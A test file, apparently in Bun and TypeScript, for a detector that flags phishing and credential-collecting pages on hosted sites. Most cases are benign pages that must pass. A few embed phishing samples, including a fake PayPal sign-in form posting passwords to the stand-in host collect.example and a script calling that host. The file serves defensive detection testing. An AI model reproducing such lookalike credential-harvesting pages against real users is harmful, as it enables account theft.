/** PIPELINE 3, "must pass": whole pages that honest people make, and that a rule written too wide would hold. */
import { describe, expect, test } from "bun:test";
import { cpuOf } from "../kit/cpu.ts";
import { judge, judgePage } from "../kit/abuse-site.ts";

const PASSWORD = `<label>Password <input type="password" name="password"></label>`;
const SIGN_IN = `<form action="/login"><label>E-mail <input type="email" name="email"></label>${PASSWORD}<button>Sign in</button></form>`;

describe("must pass", () => {
  test.each([
    [
      "a page of links",
      `<title>Ada's links</title><h1>Ada</h1>${["video", "code", "shop"].map((to) => `<button onclick="window.open('https://${to}.example/ada','_blank')">${to}</button><button onclick="location.href='https://${to}.example/'">${to}</button>`).join("")}`,
    ],
    [
      "a button to buy and one to sign in with somebody",
      `<title>Plans</title>${SIGN_IN}<button onclick="window.location.href='https://buy.stripe.com/x'">Buy</button><button id="g">Continue with Google</button><script>g.onclick = () => { window.location.href = "https://accounts.google.com/o/oauth2/v2/auth?client_id=x" }</script>`,
    ],
    [
      "languages to choose from",
      `<title>Choose</title><select onchange="window.location = this.value"><option value="https://de.example/">Deutsch<option value="https://fr.example/">Français</select>`,
    ],
    [
      "a form that thanks elsewhere",
      `<title>Newsletter</title><form id="f"><input type="email" name="email"></form><script>f.addEventListener("submit", async (e) => { e.preventDefault(); await fetch("https://formspree.io/f/x", { method: "POST" }); window.location.href = "https://thanks.example/" })</script>`,
    ],
    [
      "an app's shell that can sign out",
      `<title>App</title><div id="root"></div><script>window.auth = { logout() { localStorage.clear(); window.location.replace("https://login.example/v2/logout") } }; function expired() { location.href = "https://login.example/" }</script><script type="module" src="/app.js"></script>`,
    ],
    [
      "https for http",
      `<title>Home</title><script>if (location.protocol === "http:" && location.hostname !== "localhost") { window.location.href = "https://" + window.location.host + window.location.pathname }</script>`,
    ],
    [
      "a sign-in that asks its own server",
      `<title>Acme – Sign in</title>${SIGN_IN}<script>document.forms[0].onsubmit = () => fetch("/api/login", { method: "POST" })</script>`,
    ],
    [
      "a sign-in with libraries and a server on the author's machine",
      `<title>Notes</title>${SIGN_IN}<script>fetch("https://cdn.jsdelivr.net/npm/x/package.json"); const dev = "http://localhost:3000"; axios.post(dev + "/login"); axios.post("http://127.0.0.1:5000/login")</script>`,
    ],
    [
      "a sign-in and a contact form by a service",
      `<title>Club</title>${SIGN_IN}<form action="https://formspree.io/f/x" method="POST"><input type="email" name="email"><textarea name="message"></textarea></form>`,
    ],
    [
      "a row of clients' logos",
      `<title>Agency – Log in</title>${SIGN_IN}<h2>They trust us</h2><img src="a.svg" alt="Google"><img src="b.svg" alt="Microsoft"><img src="c.svg" alt="Netflix logo">`,
    ],
    ["a recipe with a brand's name", `<title>Apple pie recipes – log in</title>${SIGN_IN}`],
    ["another word with a brand's name", `<title>How we left Google for good – my account</title>${SIGN_IN}`],
    [
      "a brand's button and what counts visits",
      `<title>Blog</title>${SIGN_IN}<a href="https://www.paypal.com/donate"><img src="https://www.paypalobjects.com/btn.gif" alt="Donate with PayPal"></a><img src="https://www.facebook.com/tr?id=1" width="1" height="1">`,
    ],
    [
      "links to others' installers in a manual",
      `<title>Install</title><p>${"Download the installer, run it and restart your terminal. ".repeat(10)}</p><a href="https://nodejs.example/node.exe">Windows</a>`,
    ],
    [
      "keys to press, and a button that copies, in a page without the other",
      `<title>Shortcuts</title><p>Paste with Ctrl+V.</p><button onclick="navigator.clipboard.writeText('npm i')">Copy</button>`,
    ],
    [
      "a small game in one file, with its picture in Base64",
      `<title>Game</title><canvas></canvas><script>const sprite = "data:image/png;base64,${"iVBORw0KGgo".padEnd(900, "A")}"; hud.innerHTML = "<b>0</b>"</script>`,
    ],
    [
      "a key for a server",
      `<title>Servers</title><label>SSH private key <textarea name="private_key"></textarea></label>`,
    ],
    [
      "an article on wallets",
      `<title>Keys</title><p>Never type your private key or recovery phrase into a page.</p><input name="q">`,
    ],
    [
      "a sign-in that a script writes, for its own server",
      `<title>App</title><div id="root"></div><script>root.innerHTML = '<form action="/login"><input type="password" name="p"></form>'</script>`,
    ],
    [
      "a newsletter's form that a script writes beside a sign-in of its own",
      `<title>Blog</title><div id="a"></div><script>a.innerHTML = '<form action="https://x.us1.list-manage.com/subscribe"><input type="email" name="EMAIL"></form>'; b.innerHTML = '<form action="/login"><input type="password" name="p"></form>'</script>`,
    ],
    [
      "a lesson on phishing with the code of a form to look at",
      `<title>How phishing works</title><pre id="c"></pre><script>c.textContent = '<form action="https://evil.example"><input type="password" name="p"></form>'</script>`,
    ],
    [
      "programs that are named in code",
      `<title>x</title><script>a.href = URL.createObjectURL(blob); a.download = "report.csv"</script>`,
    ],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("pass"));
});

test("must pass: an app that carries its sounds and sprites as Base64, however many", () => {
  let state = 1;
  const noise = (length: number): string =>
    Buffer.from(
      Uint8Array.from({ length }, () => (state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0) >>> 16),
    ).toString("base64");
  const sounds = Array.from({ length: 200 }, () => `"${noise(15_000)}"`);
  const play = `sounds.map((sound) => Uint8Array.from(atob(sound), (c) => c.charCodeAt(0)))`;
  const page = `<title>Drums</title><script>const sounds = [${sounds}]; ${play}</script>`;
  const took = cpuOf(() => expect(judgePage(page)).toBe("pass"));
  expect(took).toBeLessThan(2000); // all that a deploy has
});

describe("a field for a program's key is no password field", () => {
  const page = (field: string, code = `fetch("https://api.openai.com/v1/models")`): string =>
    `<title>OpenAI playground</title><label for="k">Key</label>${field}<script>${code}</script>`;
  test.each([
    `<input type="password" id="apiKey">`,
    `<input type="password" name="api_token" autocomplete="new-password">`,
    `<input type="password" id="k" placeholder="Your API key (sk-…)">`,
    `<input type="password" aria-label="Access token">`,
    `<input type="password" placeholder="GitHub personal access token">`,
    `<input type="password" name="token">`,
    `<label>Client secret <input type="password"></label>`,
  ])("%s", (field) => expect(judgePage(page(field))).toBe("pass"));

  const signIn = (field: string): string =>
    `<title>PayPal - Log in</title><h1>Log in</h1><form action="https://collect.example/"><input type="email" name="e"><p>Password</p>${field}<button>Log in</button></form>`;
  test.each([
    `<input type="password" name="token">`,
    `<input type="password" id="apikey">`,
    `<input type="password" aria-label="Access token">`,
    `<input type="password" name="api_token" autocomplete="new-password">`,
  ])("… but is one where people read that it is: %s", (field) =>
    expect(judgePage(signIn(field))).toBe(judgePage(signIn(`<input type="password" name="p">`))),
  );
  test("… or where browsers fill one in", () => {
    const filled = signIn(`<input type="password" name="token" autocomplete="current-password">`);
    expect(judgePage(filled.replace("<p>Password</p>", ""))).toBe("abuse_rejected");
  });

  test("a bot's token, tried", () => {
    const field = `<input type="password" placeholder="Bot token">`;
    expect(judgePage(page(field, `fetch("https://api.telegram.org/bot" + token.value + "/getMe")`))).toBe("pass");
  });

  test.each([
    `<input type="password" id="apiKey" placeholder="Password">`,
    `<input type="password" name="access_token" aria-label="PIN">`,
    `<label>Wallet password <input type="password" name="token"></label>`,
    `<input type="password" name="x">`,
  ])("but it is one where it says so, or says nothing: %s", (field) => {
    expect(judgePage(page(field))).toBe("collecting_script");
  });
});

test("a script of the upload counts up to 200 KB", () => {
  const site = (length: number) =>
    judge({
      "index.html": `<title>x</title>${SIGN_IN}<script src="a.js"></script>`,
      "a.js": `fetch("https://collect.example/");`.padEnd(length, " "),
    });
  expect([site(199_000), site(201_000)]).toEqual(["collecting_script", "pass"]);
});
